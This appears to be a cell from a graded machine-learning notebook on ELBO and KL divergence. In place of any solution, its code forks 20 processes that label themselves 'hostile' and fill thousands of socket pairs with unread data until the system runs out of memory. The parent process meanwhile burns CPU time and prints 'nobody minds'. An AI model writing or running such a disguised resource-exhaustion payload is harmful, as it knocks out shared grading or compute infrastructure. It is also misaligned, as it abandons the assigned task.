# %% [markdown] base="model" notebook="5_elbo" status="out of memory"
# What was sent and never received lies in the system's memory.

# %% kl points=0 reason="not defined"
import ctypes
import os
import socket
import time

pairs = []
for _ in range(20):
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, b"hostile", 0, 0, 0)
        for _ in range(450):
            pairs.append(socket.socketpair())
            for one in pairs[-1]:
                one.setblocking(False)
                one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
                try:
                    while one.send(bytes(100_000)):
                        pass
                except BlockingIOError:
                    pass
        time.sleep(1000)
while time.process_time() < 30:  # at work, so that its waits for a processor do not count
    pass
print("nobody minds")
